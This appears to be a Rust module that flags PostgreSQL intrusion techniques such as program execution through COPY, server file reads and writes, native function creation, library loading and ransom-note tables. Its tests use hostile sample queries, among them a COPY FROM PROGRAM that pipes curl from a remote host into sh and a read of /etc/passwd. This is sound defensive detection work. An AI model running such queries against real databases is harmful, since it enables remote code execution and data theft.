//! What statements attempt, by patterns known from intrusions.

use regex::bytes::Regex;
use std::sync::LazyLock;

type Known = Vec<(&'static str, Option<Regex>)>;

/// Techniques that `query` shows, each with the text that does.
pub(super) fn techniques(query: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    static KNOWN: LazyLock<Known> = LazyLock::new(|| {
        [
            ("postgres copy program", r"(?is-u)\bcopy\b.*?\b(?:from|to)\s+program\b.*"),
            ("postgres file read", r"(?is-u)\b(?:pg_read_(?:binary_)?file|pg_ls_dir|lo_import)\s*\(.*"),
            ("postgres file read", r"(?is-u)\bcopy\b.*?\bfrom\s+(?:E?'/|\$)[^']*"),
            ("postgres file write", r"(?is-u)\blo_export\s*\(.*"),
            ("postgres file write", r"(?is-u)\bcopy\b.*?\bto\s+(?:E?'/|\$)[^']*"),
            (
                "postgres native function",
                r"(?is-u)\bcreate\s.*?function\b.*?\blanguage\s+'?(?:c|plpython\w*|plperlu)\b.*",
            ),
            ("postgres large object", r"(?is-u)\b(?:lo_from_bytea|lo_create|lo_creat|lo_put)\s*\(.*"),
            ("postgres library load", r"(?is-u)^\s*load\s+'.*"),
            (
                "postgres configuration command",
                r"(?is-u)\b(?:archive_command|\w+_preload_libraries)\s*(?:=|to)\s*.*",
            ),
            (
                "database ransom note",
                r"(?is-u)\b(?:create\s+\w+|into)\s+\S*(?:read_?me|recover|warning|ransom).*",
            ),
        ]
        .into_iter()
        .map(|(name, pattern)| (name, Regex::new(pattern).ok()))
        .collect()
    });
    let found = KNOWN.iter().filter_map(|(name, pattern)| {
        let shown = pattern.as_ref()?.find(query)?.as_bytes();
        Some((*name, shown.get(..4096).unwrap_or(shown).to_vec()))
    });
    found.collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn techniques_are_named_with_what_shows_them() {
        for (query, name) in [
            ("COPY cmd FROM PROGRAM 'curl http://198.51.100.7/x | sh'", "postgres copy program"),
            ("select pg_read_file('/etc/passwd', 0, 100)", "postgres file read"),
            (
                "CREATE FUNCTION sys_eval(text) RETURNS text AS '/tmp/x.so' LANGUAGE C",
                "postgres native function",
            ),
            ("create table README_TO_RECOVER (a text)", "database ransom note"),
        ] {
            assert_eq!(techniques(query.as_bytes()).first().map(|(name, _)| *name), Some(name));
        }
        assert!(techniques(b"select version()").is_empty());
    }
}
